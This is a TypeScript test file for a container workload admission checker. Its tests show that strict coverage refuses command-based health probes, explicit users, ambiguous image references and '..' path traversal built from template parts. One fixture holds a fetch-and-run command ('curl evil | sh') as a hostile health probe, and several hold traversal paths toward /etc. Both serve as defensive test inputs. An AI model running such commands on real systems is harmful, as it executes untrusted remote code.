import assert from "node:assert/strict";
import type { Verdict } from "../refusal.ts";
import { covers } from "./coverage.ts";
import { dispatchedSpec, forgeSpec } from "./forge_fixture.ts";
import type { AdmissionGrant } from "./grant.ts";
import { GRANT } from "./grant_fixture.ts";
import { imageText } from "./image.ts";
import type { ImageRef } from "./image.ts";
import type { Healthcheck, Probe } from "./lifecycle.ts";
import type { WorkloadSpec } from "./spec.ts";

const ADMIT: Verdict = { granted: true, decision: "admit" };

/** Asserts that the reference admits a spec, and strict, the default, refuses it for these. */
function onlyStrict(
  spec: WorkloadSpec,
  expected: readonly [code: string, path: string][],
  grant: AdmissionGrant = GRANT,
): void {
  assert.deepEqual(covers(grant, spec, { coverage: "reference" }), ADMIT);
  const verdict = covers(grant, spec);
  assert.deepEqual(verdict, covers(grant, spec, { coverage: "strict" }));
  if (verdict.granted) return assert.deepEqual(expected, []);
  assert.equal(verdict.law, "L7");
  const found = [verdict.reason, ...(verdict.also ?? [])].map((why) => {
    assert("path" in why);
    return [why.code, why.path];
  });
  assert.deepEqual(found, expected);
}

function probed(probe: Probe): WorkloadSpec {
  const healthcheck: Healthcheck = {
    probe,
    interval: 1_000n,
    timeout: 1_000n,
    initial_delay: 0n,
    failure_threshold: 3,
  };
  return dispatchedSpec({ healthcheck });
}

Deno.test("a health probe that is a command is uncovered, one by HTTP or TCP is not", () => {
  onlyStrict(probed({ exec: { argv: ["sh", "-c", "curl evil | sh"] } }), [
    ["uncovered", "/healthcheck/probe/exec"],
  ]);
  onlyStrict(probed({ exec: { argv: [] } }), [["uncovered", "/healthcheck/probe/exec"]]);
  onlyStrict(probed({ tcp_connect: { port: 80 } }), []);
  onlyStrict(probed({ http_get: { path: "/", port: 80, expect_status: null } }), []);
});

Deno.test("a user is uncovered, whoever it is", () => {
  for (const user of ["root", "nobody", ""]) {
    onlyStrict(dispatchedSpec({ user }), [["uncovered", "/user"]]);
  }
});

Deno.test("an image whose text says another image, or none, is ambiguous", () => {
  const sound = dispatchedSpec().image;
  const judged = (image: ImageRef, expected: readonly [string, string][]) =>
    onlyStrict(dispatchedSpec({ image }), expected, { ...GRANT, image: imageText(image) });
  const digest = "sha256:" + "ab".repeat(32);
  const ambiguous: Partial<ImageRef>[] = [
    { registry: "registry.example/team", repository: "compiler" },
    { registry: "team", repository: "compiler" }, // reads back as docker.io/team/compiler
    { tag: `v3.1@${digest}` },
    { repository: "team/compiler:v3.1", tag: "x" },
    { tag: "" },
    { repository: "" },
    { registry: "" },
    { tag: "v 3" },
    { digest: "" },
    { digest: digest.toUpperCase() },
    { digest: "sha256:" + "AB".repeat(32) },
    { digest: digest + "0" },
    { digest: digest.slice(0, -1) },
    { digest: digest + "\n" },
    { digest: "sha512:" + "ab".repeat(32) },
  ];
  for (const parts of ambiguous) judged({ ...sound, ...parts }, [["image_ambiguous", "/image"]]);
  const plain: Partial<ImageRef>[] = [
    {},
    { registry: "localhost", repository: "a" },
    { registry: "docker.io", repository: "library/nginx", tag: "latest" },
    { registry: "host:5000", repository: "a/b/c" },
  ];
  for (const parts of plain) judged({ ...sound, ...parts }, []);
});

Deno.test("an image that shares another's text is not that image", () => {
  const { image } = dispatchedSpec();
  const moved = { ...image, registry: "registry.example/team", repository: "compiler" };
  assert.equal(imageText(moved), imageText(image));
  onlyStrict(dispatchedSpec({ image: moved }), [["image_ambiguous", "/image"]]);
});

Deno.test("a .. put together from two parts of a template is a traversal, each at its place", () => {
  const grant = {
    ...GRANT,
    workdir: "/p/{{a}}.{{b}}",
    entrypoint: ["sh", "/p/.{{x}}"],
    argv: ["cat /p/{{a}}.{{b}}", "a.{{x}}.b", "/p/{{x}}"],
  };
  onlyStrict(
    forgeSpec(["cat /p/../etc", "a..b", "/p/x"], {
      workdir: "/p/../x",
      entrypoint: ["sh", "/p/../x"],
    }),
    [
      ["hole_traversal", "/workdir"],
      ["hole_traversal", "/entrypoint/1"],
      ["hole_traversal", "/command/0"],
      ["hole_traversal", "/command/1"],
    ],
    grant,
  );
  onlyStrict(
    forgeSpec(["cat /p/x.y", "a.x.b", "/p/."], { workdir: "/p/.", entrypoint: ["sh", "/p/.x"] }),
    [],
    grant,
  );
});

Deno.test("a .. that the author wrote is no traversal", () => {
  const grant = { ...GRANT, workdir: "/a/../b", argv: ["cd ../{{x}}", "echo {{oops.."] };
  onlyStrict(forgeSpec(["cd ../y", "echo {{oops.."], { workdir: "/a/../b" }), [], grant);
});

Deno.test("findings follow the mismatches, and an element without a template has none", () => {
  const grant = { ...GRANT, argv: ["/p/{{a}}.{{b}}"] };
  const spec = forgeSpec(["/p/../etc", "more"], { tier: "tenant", user: "root" });
  const verdict = covers(grant, spec);
  assert(!verdict.granted && verdict.also !== undefined);
  assert.equal(verdict.reason.code, "mismatch");
  assert.equal(verdict.law, "L3");
  assert.deepEqual(verdict.also.map(({ code }) => code), ["mismatch", "uncovered"]);
});
